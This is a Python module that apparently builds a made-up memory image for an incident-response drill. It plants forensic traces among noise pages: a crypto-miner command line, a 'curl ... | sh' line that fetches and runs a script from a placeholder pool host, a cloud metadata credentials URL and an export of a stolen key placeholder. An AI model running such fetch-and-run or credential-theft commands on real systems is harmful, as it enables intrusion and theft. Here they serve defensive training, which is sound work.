"""A made-up memory image: small, the same for the same instance, and with something in it worth finding."""

from __future__ import annotations

import random
from typing import Final

from hikeshi.simulation import cast

MARK: Final = b"SIMULATED MEMORY"
PAGE: Final = 4096
PAGES: Final = 384  # 1.5 MiB

TRACES: Final = (
    f"/var/spool/.x/kworkerd -o stratum+tcp://{cast.POOL}:{cast.POOL_PORT} --donate-level 1 -B",
    f"curl -s http://{cast.POOL}/s.sh | sh",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web",
    f"export AWS_ACCESS_KEY_ID={cast.STOLEN_SESSION_KEY}",
    "nginx: worker process",
    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
)
"""Strings left in memory by the miner, by the theft of the role's credentials and by ordinary services."""


def image_of(instance_id: str) -> bytes:
    """The memory of one instance, 1.5 MiB: `SIMULATED MEMORY`, zero pages, noise pages and the traces. No secret is in it."""
    chance = random.Random(instance_id)  # noqa: S311 -- made-up content, not cryptography
    pages = [bytearray(PAGE) if chance.random() < 0.5 else bytearray(chance.randbytes(PAGE)) for _ in range(PAGES)]
    pages[0][:] = f"{MARK.decode()} of {instance_id}, made up for a drill\n".encode().ljust(PAGE, b"\0")
    for trace in TRACES:
        page, offset = chance.choice(pages[1:]), chance.randrange(PAGE - 200)
        data = b"\0" + trace.encode() + b"\0"
        page[offset : offset + len(data)] = data
    return b"".join(pages)
